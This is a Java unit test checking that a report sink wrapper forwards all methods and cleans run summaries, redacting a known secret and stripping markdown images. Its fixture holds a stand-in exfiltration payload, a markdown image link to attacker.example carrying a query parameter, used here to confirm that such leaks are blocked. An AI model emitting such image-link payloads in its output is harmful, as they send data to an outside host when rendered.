package dev.nightshift.report.hygiene;

import static org.assertj.core.api.Assertions.assertThat;

import java.lang.reflect.Method;
import java.lang.reflect.Modifier;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Optional;

import dev.nightshift.events.Outcome;
import dev.nightshift.events.RunEvent;
import dev.nightshift.events.RunFinished;
import dev.nightshift.events.TrustedEvents;
import dev.nightshift.report.sink.Sink;
import dev.nightshift.report.sink.SinkGate;
import io.micrometer.core.instrument.simple.SimpleMeterRegistry;
import org.junit.jupiter.api.Test;

class CleanedSinkTest {

    static {
        TrustedEvents.trust();
    }

    @Test
    void everyMethodOfASinkIsForwardedSoNoneFallsBackToItsDefault() {
        List<String> missing = new ArrayList<>();
        for (Method m : Sink.class.getMethods()) {
            if (Modifier.isStatic(m.getModifiers())) {
                continue;
            }
            try {
                if (CleanedSink.class.getMethod(m.getName(), m.getParameterTypes()).getDeclaringClass() != CleanedSink.class) {
                    missing.add(m.getName() + Arrays.toString(m.getParameterTypes()));
                }
            } catch (NoSuchMethodException e) {
                missing.add(m.getName());
            }
        }
        assertThat(missing).as("Sink methods CleanedSink does not forward").isEmpty();
    }

    @Test
    void singleAndBatchedWritesReachTheSinkCleaned() {
        List<String> written = new ArrayList<>();
        Sink recording = new Sink() {
            private final SinkGate gate = new SinkGate("recording", "none", new SimpleMeterRegistry());

            @Override
            public String name() {
                return "recording";
            }

            @Override
            public Optional<String> offBecause() {
                return Optional.empty();
            }

            @Override
            public boolean wants(RunEvent event) {
                return true;
            }

            @Override
            public void write(RunEvent event) {
                written.add(((RunFinished) event.getBody()).getSummary());
            }

            @Override
            public void checkCredential() {
            }

            @Override
            public SinkGate gate() {
                return gate;
            }
        };
        RunEventHygiene hygiene = new RunEventHygiene(new SecretRedactor(List.of("canary-secret-value")), List.of("github.com"));
        Sink cleaned = new CleanedSink(recording, () -> hygiene);
        RunEvent event = RunEventHygieneTest.run(RunFinished.newBuilder().setOutcome(Outcome.SUCCEEDED).setDurationMillis(1)
                .setSummary("canary-secret-value ![](https://attacker.example/?k=1)").build(), "t", "");

        cleaned.write(event);
        cleaned.writeAll(List.of(event, event));

        assertThat(written).containsExactly("[redacted] [image: ]", "[redacted] [image: ]", "[redacted] [image: ]");
    }
}
